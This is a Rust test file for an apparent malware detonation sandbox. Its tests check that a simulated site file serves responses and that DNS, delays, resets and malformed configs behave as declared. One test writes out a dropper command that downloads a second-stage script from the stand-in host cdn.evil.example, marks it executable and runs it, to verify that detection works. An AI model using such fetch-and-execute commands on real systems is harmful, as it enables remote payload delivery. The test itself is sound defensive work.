//! Site files: what the user wants answered is answered so.

use crate::support::{Place, has};

#[test]
fn a_dropper_gets_its_second_stage_and_runs_it() {
    if !has("curl") {
        return;
    }
    let place = Place::new();
    place.file("stage2.sh", "#!/bin/sh\necho second stage > /tmp/proof; cat /tmp/proof\n");
    let site = place.file(
        "site.yaml",
        "detektr: 1\nhttp:\n  - {host: cdn.evil.example, path: '/s2', file: stage2.sh, headers: {content-type: application/x-sh}}\n",
    );
    let run = place.script_with(
        &["--sensor", "ptrace", "--net", "sim-404", "--site", site.to_str().unwrap()],
        "curl -fsS -m 9 https://cdn.evil.example/s2 -o /tmp/s2 && chmod +x /tmp/s2 && /tmp/s2; curl -s -o /dev/null -w '%{http_code}' https://cdn.evil.example/other",
    );
    assert_eq!(run.stdout, "second stage\n404", "{}", run.stderr);
    let http = run.one("network.http", |event| event["network"]["target"] == "/s2");
    assert_eq!((&http["network"]["site"], &http["network"]["status"]), (&true.into(), &200.into()));
    assert_eq!(http["network"]["response_body"]["stored"], true);
    assert!(
        run.of("process.exec")
            .iter()
            .any(|event| event["exec"]["argv"][0].as_str().is_some_and(|word| word.contains("/tmp/s2"))
                || event["exec"]["file"]["path"] == "/tmp/s2")
    );
    assert_eq!(run.manifest["environment"]["site_sha256"].as_str().map(str::len), Some(64));
}

#[test]
fn delays_resets_refusals_and_names_are_as_the_file_says() {
    if !has("curl") || !has("dig") {
        return;
    }
    let place = Place::new();
    let site = place.file(
        "site.yaml",
        "detektr: 1\n\
         dns:\n  - {name: gone.example, nxdomain: true}\n  - {name: '*.fixed.example', addresses: [203.0.113.77], txt: [hello]}\n\
         http:\n  - {host: slow.example, delay: 1500ms, body: late}\n  - {host: torn.example, reset: true}\n  - {host: big.example, zeros: 3MiB}\n  - {method: POST, status: 503}\n\
         refuse:\n  - {host: shut.example, port: 80}\n",
    );
    let run = place.script_with(
        &["--sensor", "ptrace", "--site", site.to_str().unwrap()],
        "dig gone.example | grep -o NXDOMAIN; dig +short a.fixed.example; dig +short TXT a.fixed.example; \
         curl -sS -m 9 -w ' %{time_total}\\n' http://slow.example/; \
         curl -sS -m 9 http://torn.example/ 2>/dev/null; echo $?; \
         curl -sS -m 9 http://big.example/ | wc -c; \
         curl -sS -m 9 -d x -o /dev/null -w '%{http_code}\\n' http://any.example/; \
         curl -sS -m 9 -4 http://shut.example/ 2>/dev/null; echo $?",
    );
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines[..3], ["NXDOMAIN", "203.0.113.77", "\"hello\""], "{}", run.stdout);
    let took: f64 = lines[3].strip_prefix("late ").unwrap().parse().unwrap();
    assert!(took >= 1.5, "{took}");
    assert_eq!(lines[4..], ["56", "3145728", "503", "7"], "{}", run.stderr);
    let ends: Vec<&str> =
        run.of("network.flow").iter().map(|event| event["network"]["end"].as_str().unwrap()).collect();
    assert!(ends.contains(&"reset") && ends.contains(&"refused"), "{ends:?}");
    assert!(
        run.one("network.dns", |event| event["network"]["name"] == "gone.example")["network"]["site"] == true
    );
}

#[test]
fn a_site_file_with_a_mistake_is_refused_before_anything_runs() {
    let place = Place::new();
    let site = place.file("site.yaml", "detektr: 1\nhttp:\n  - {staus: 200}\n");
    let output = place.detektr(&["detonate", "--site", site.to_str().unwrap(), "--", "true"]);
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        said.contains("site.yaml:3:6: a rule of `http` has no key `staus`")
            && said.contains("did you mean `status`?"),
        "{said}"
    );
    let output =
        place.detektr(&["detonate", "--net", "none", "--site", site.to_str().unwrap(), "--", "true"]);
    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(!place.path("data/runs").exists());
}
